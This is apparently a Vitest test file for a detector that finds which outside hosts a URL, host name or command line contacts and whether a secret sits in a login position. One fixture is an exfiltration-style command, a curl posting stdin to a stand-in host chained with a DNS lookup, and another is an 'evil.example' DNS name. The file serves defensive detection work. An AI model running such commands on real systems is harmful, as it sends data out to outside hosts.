import { describe, expect, it } from "vitest";
import { ownHosts, ownLogin } from "./own-hosts.js";

describe("ownHosts", () => {
  it("reads a URL, a host name and a command line", () => {
    expect(ownHosts("https://Hooks.Example.net/c?x=1")).toEqual({
      kind: "url",
      hosts: ["hooks.example.net"],
      dns: false,
      names: [],
    });
    expect(ownHosts("a1b2.t.evil.example")).toMatchObject({ kind: "host", dns: true });
    const line = "curl -d @- https://c.example/k && nslookup x.y.example";
    const cmd = ownHosts(line);
    expect(cmd).toMatchObject({ kind: "command", hosts: ["c.example"], dns: true });
    expect(cmd?.names).toEqual([{ start: line.indexOf("x.y"), name: "x.y.example" }]);
  });

  it("is nothing for a value that goes nowhere by itself", () => {
    expect(ownHosts("Please see https://docs.example for the steps.")).toBeUndefined();
    expect(ownHosts("ls -la /tmp")).toBeUndefined();
    expect(ownHosts("localhost")).toBeUndefined();
  });
});

describe("ownLogin", () => {
  it("is a header, a -u login or a URL's user part before the secret", () => {
    const h = 'curl -H "Authorization: Bearer ABC123" https://x.example';
    expect(ownLogin(h, h.indexOf("ABC123"))).toBe(true);
    const u = "curl -u admin:Pa55w0rd https://x.example";
    expect(ownLogin(u, u.indexOf("Pa55"))).toBe(true);
    const d = "curl -d 'k=ABC123' https://x.example";
    expect(ownLogin(d, d.indexOf("k=ABC"))).toBe(false);
  });
});
